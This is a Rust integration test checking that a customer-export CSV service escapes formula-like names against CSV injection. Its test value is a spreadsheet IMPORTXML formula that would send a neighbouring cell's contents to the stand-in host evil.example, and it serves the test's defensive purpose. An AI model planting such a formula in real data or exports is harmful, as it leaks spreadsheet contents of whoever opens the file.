//! Exports a manager opens in a spreadsheet, over HTTP against the server
//! process: a customer's name that starts like a formula is shown as text,
//! never run (CSV injection), on both engines.

use serde_json::{json, Value};
use tests::app::{data, TestApp};
use tests::{Engine, TestDb};

async fn a_formula_in_a_customer_name_is_exported_as_text(engine: Engine) {
    let db = TestDb::new(engine).await;
    let app = TestApp::start(env!("CARGO_BIN_EXE_dirtfree-api"), &db.url).await;
    let admin = app.login_admin().await;
    let formula = "=IMPORTXML(CONCAT(\"https://evil.example/?\",B2),\"//a\")";
    let mut last = Value::Null;
    for (name, phone) in [(formula, "+15125550100"), ("Ada Lovelace", "+15125550101")] {
        let c = app
            .gql(
                Some(&admin),
                "mutation($i: CreateCustomerInput!) { createCustomer(input: $i) { position } }",
                json!({"i": {"name": name, "phone": phone}}),
            )
            .await;
        last = data(&c, "/data/createCustomer/position").clone();
    }
    app.sync(&admin, last.as_str().expect("position")).await;
    let csv = app
        .gql(Some(&admin), "{ exportCsv(report: CUSTOMERS) }", json!({}))
        .await;
    let csv = data(&csv, "/data/exportCsv")
        .as_str()
        .expect("csv")
        .to_string();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<(String, String)> = reader
        .records()
        .map(|r| {
            let r = r.expect("record");
            (r[1].to_string(), r[3].to_string())
        })
        .collect();
    assert!(
        names.contains(&(format!("'{formula}"), "+15125550100".to_string())),
        "the formula is not neutralised (or the phone was changed): {names:?}"
    );
    assert!(
        names.contains(&("Ada Lovelace".to_string(), "+15125550101".to_string())),
        "{names:?}"
    );
    tests::health::assert_no_failures(&app.server.base).await;
}

tests::on_both_engines!(a_formula_in_a_customer_name_is_exported_as_text);
